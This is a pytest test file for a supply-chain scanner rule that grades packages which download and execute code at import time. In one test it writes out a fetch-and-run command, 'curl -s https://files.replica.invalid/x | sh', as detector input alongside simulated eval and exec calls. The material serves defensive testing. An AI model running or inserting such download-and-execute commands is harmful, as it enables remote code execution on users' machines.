import pytest

from customhouse.model.change import GainedCapability
from customhouse.model.code import Decoded
from customhouse.rules.code.import_time_download_and_run import RULE
from rules.cases import call, can, change, code, code_case, findings, grades, metadata, only, sized

NET = can("network", "https.get")
RUN = can("process", "child_process.exec", line=2)
EVAL = can("dynamic-code", "eval", line=2)
EXECUTED = call("eval", line=2, origins=("network",))
STARTED = call("child_process.exec", "sh {}", line=2, origins=("network",))
BOTH = change(
    gained=(
        GainedCapability("network", "import", "index.js", 1, "https.get"),
        GainedCapability("process", "import", "index.js", 2, "child_process.exec"),
    )
)
ONE = change(gained=BOTH.gained[:1])


def file(*calls, able=(NET, RUN, EVAL), **parts):
    return code(*able, calls=calls, **parts)


@pytest.mark.parametrize("compared", [None, change(), BOTH])
def test_fetched_text_that_is_executed_blocks_whatever_the_release_before_did(compared):
    assert grades(RULE, code_case(file(EXECUTED), change=compared)) == [("critical", "high")]


def test_in_a_bundle_the_flow_weighs_by_novelty():
    bundle = sized(file(EXECUTED), 2_000_000)
    assert grades(RULE, code_case(bundle, change=change())) == [("medium", "medium")]
    assert grades(RULE, code_case(bundle)) == [("high", "medium")]
    assert grades(RULE, code_case(bundle, change=BOTH)) == [("critical", "high")]


@pytest.mark.parametrize(
    ("compared", "grade"), [(BOTH, ("high", "high")), (None, ("high", "medium")), (change(), ("medium", "medium"))]
)
def test_a_fetched_program_by_novelty(compared, grade):
    assert grades(RULE, code_case(file(STARTED), change=compared)) == [grade]


@pytest.mark.parametrize(
    "parts",
    [
        {"hosts": ("http://192.0.2.7/x",)},
        {"decoded": (Decoded("https://files.replica.invalid/x", 1, ("base64",)),)},
    ],
)
def test_a_fetched_program_from_an_odd_place_blocks(parts):
    assert grades(RULE, code_case(file(STARTED, **parts), change=change())) == [("critical", "high")]


def test_commands_that_fetch():
    runs = call("child_process.exec", "curl -s https://files.replica.invalid/x | sh", line=2)
    fetches = call("child_process.exec", "curl -O https://files.replica.invalid/x", line=2)
    assert grades(RULE, code_case(file(runs, able=(RUN,)), change=change())) == [("critical", "high")]
    assert grades(RULE, code_case(file(fetches, able=(RUN,)))) == [("high", "medium")]
    assert grades(RULE, code_case(file(fetches, able=(RUN,)), change=change())) == [("medium", "medium")]


@pytest.mark.parametrize(
    ("compared", "grade"),
    [
        (BOTH, ("high", "medium")),
        (ONE, ("low", "medium")),
        (change(), ("low", "medium")),
        (None, ("low", "medium")),
    ],
)
def test_network_beside_programs_holds_only_when_both_are_new(compared, grade):
    assert grades(RULE, code_case(file(able=(NET, RUN)), change=compared)) == [grade]


def test_an_odd_place_weighs_beside_them():
    odd = file(able=(NET, RUN), hosts=("http://192.0.2.7/x",))
    assert grades(RULE, code_case(odd, change=BOTH)) == [("high", "high")]
    assert grades(RULE, code_case(odd)) == [("medium", "medium")]
    assert grades(RULE, code_case(sized(odd, 2_000_000), metadata=metadata(days=100))) == [("low", "medium")]


@pytest.mark.parametrize(
    "subject",
    [
        file(
            call("eval", line=2, when="call", origins=("network",)),
            able=(NET, can("dynamic-code", "eval", when="call")),
        ),
        file(EXECUTED, reach="install"),
        file(EXECUTED, reach="other"),
        file(able=(NET,)),
    ],
)
def test_what_waits_for_a_caller_or_has_its_own_rule_is_silent(subject):
    assert findings(RULE, code_case(subject)) == []


def test_it_says_when_it_runs():
    finding = only(RULE, code_case(file(EXECUTED)))
    assert finding.phase == "import"
    assert "executes what it fetched (eval)" in finding.message
